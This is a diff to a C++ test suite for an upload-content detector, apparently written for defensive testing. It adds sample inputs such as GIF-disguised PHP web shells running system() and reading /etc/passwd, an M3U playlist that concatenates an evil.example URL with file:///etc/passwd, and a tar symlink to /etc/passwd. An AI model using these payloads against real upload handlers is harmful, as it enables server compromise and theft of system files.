@@ -101,6 +101,13 @@ std::string windows_program() {
   return out + "PE" + std::string(20, '\0');
 }
 
+std::string tar_link(std::string_view name, std::string_view target) {
+  std::string entry = tar_entry(name);
+  entry[156] = '2';
+  entry.replace(157, target.size(), target);
+  return entry;
+}
+
 struct ContentRow {
   std::string text;
   bool media;
@@ -116,7 +123,12 @@ TEST(AddressAndFile, ContentOfUploads) {
       {"GIF89a\1<?=('sys'.'tem')($_GET[0])?>", true, "balanced"},
       {"GIF89a\1<?=array_map($_GET[0],$_GET)?>", true, "balanced"},
       {"GIF89a\1<?=die(shell_exec('id'))?>", true, "balanced"},
+      {"GIF89a\1<?=readfile('/etc/passwd')?>", true, "balanced"},
+      {"GIF89a\1<?=include\"/tmp/x\"?>", true, "balanced"},
       {"GIF89a\1<?= hello this is no code ?>", true, "-"},
+      {"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nconcat:http://evil.example/a|file:///etc/passwd\n", true,
+       "balanced"},
+      {"#EXTM3U\nhttps://a.example/1.ts\nfile:///C:/Music/a.mp3\n", true, "-"},
       {"<?= $title ?> <?= htmlspecialchars($name) ?>", false, "-"},
       {"<?xml version='1.0'?><?xpacket begin=''?>", true, "-"},
       {"<? if a ?>", true, "-"},
@@ -148,6 +160,8 @@ TEST(AddressAndFile, ContentOfUploads) {
       {zip_entry("a/b..c/x") + zip_entry("word/document.xml"), true, "-"},
       {tar_entry("../x"), false, "balanced"},
       {tar_entry("dir/x"), false, "-"},
+      {tar_link("x", "/etc/passwd"), false, "balanced"},
+      {tar_link("x", "/usr/share/zoneinfo/UTC"), false, "-"},
   };
   for (const ContentRow& row : rows) {
     FieldContext context;
